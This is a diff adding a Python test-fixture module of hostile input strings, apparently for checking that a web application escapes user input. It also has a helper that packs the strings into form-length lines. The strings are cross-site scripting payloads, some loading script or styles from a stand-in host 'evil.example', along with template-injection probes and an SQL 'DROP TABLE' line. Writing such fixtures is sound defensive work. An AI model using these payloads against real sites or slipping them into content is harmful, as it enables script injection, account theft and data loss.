@@ -1,0 +1,76 @@
+"""Words that have broken other programs. Whatever runs among them calls `xss`."""
+
+STRINGS = (
+    "<script>xss(1)</script>",
+    "<ScRiPt src=//evil.example/xss.js></sCrIpT>",
+    "</script><script>xss(1)</script>",
+    "</title><script>xss(1)</script>",
+    "</textarea><script>xss(1)</script>",
+    "</style><script>xss(1)</script>",
+    "<!--><script>xss(1)</script>-->",
+    "<![CDATA[<script>xss(1)</script>]]>",
+    "<img src=x onerror=xss(1)>",
+    "<img src=x onerror='xss(1)'//",
+    "<image src=x onerror=xss(1)>",
+    "<svg onload=xss(1)>",
+    "<svg><script>xss(1)</script></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=xss(1)>#x'/></svg>",
+    "<svg><animate onbegin=xss(1) attributeName=x dur=1s>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=xss(1)>",
+    "<body onload=xss(1)>",
+    "<details open ontoggle=xss(1)>",
+    "<input autofocus onfocus=xss(1)>",
+    "<select autofocus onfocus=xss(1)>",
+    "<video><source onerror=xss(1)></video>",
+    "<audio src=x onerror=xss(1)>",
+    "<marquee onstart=xss(1)>",
+    "<iframe srcdoc='<script>parent.xss(1)</script>'>",
+    "<iframe src=javascript:parent.xss(1)>",
+    "<object data=javascript:xss(1)>",
+    "<embed src=javascript:xss(1)>",
+    "<a href=javascript:xss(1) autofocus>x</a>",
+    "<a href='java\tscript:xss(1)'>x</a>",
+    "<form action=javascript:xss(1)><button>x</button></form>",
+    "<button form=record_form formaction=//evil.example/xss>x</button>",
+    "<base href=//evil.example/xss/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/xss'>",
+    "<link rel=stylesheet href=//evil.example/xss.css>",
+    "<style>@import '//evil.example/xss.css';</style>",
+    "<div style=background:url(//evil.example/xss)>",
+    "<div hx-get=//evil.example/xss hx-trigger=load>x</div>",
+    "<div data-hx-get=/more data-hx-trigger=load data-hx-target=body>xss</div>",
+    "<div hx-on:load=xss(1) hx-on::load=xss(1)>x</div>",
+    "<div data-hx-on:click=xss(1) data-draft=//evil.example/xss>x</div>",
+    "<hx-partial data-hx-target=body>xss</hx-partial>",
+    "<template shadowrootmode=open><script>xss(1)</script></template>",
+    "<portal src=//evil.example/xss>",
+    "\"><script>xss(1)</script>",
+    "'><script>xss(1)</script>",
+    "\" autofocus onfocus=xss(1) x=\"",
+    "' autofocus onfocus=xss(1) x='",
+    "` onmouseover=xss(1)",
+    "javascript:xss(1)",
+    "data:text/html,<script>xss(1)</script>",
+    "{{ xss(1) }} {% xss %} ${xss(1)} #{xss(1)}",
+    "{{ ''.__class__.__mro__ }} {{ config }} xss",
+    "%3Cscript%3Exss(1)%3C/script%3E",
+    "&lt;script&gt;xss(1)&lt;/script&gt; &#60;script&#62;",
+    "\\u003cscript\\u003exss(1)\\u003c/script\\u003e",
+    "\ufeff\u202e<script>xss(1)</script>\u202c zniknęło",
+    "\x00<scr\x00ipt>xss(1)</script>",
+    "＜script＞xss(1)＜/script＞",
+    "עברית \u200f<b onclick=xss(1)>שלום</b> العربية",
+    "👩‍👧‍👦🙂<b onclick=xss(1)>🏳️‍🌈</b>é ž̶a̷l̸g̵o̶ xss",
+    "'; DROP TABLE family; -- xss",
+    "x" * 150 + "<b onclick=xss(1)>xss",
+)  # fmt: skip
+WHOLE = "\n".join(STRINGS)
+
+
+def packs(most: int = 195) -> list[str]:
+    """The strings in as few lines of a form as they fit into."""
+    found = [""]
+    for text in STRINGS:
+        together = f"{found[-1]} {text}".strip()
+        found[-1:] = [together] if len(together) <= most else [found[-1], text]
+    return found
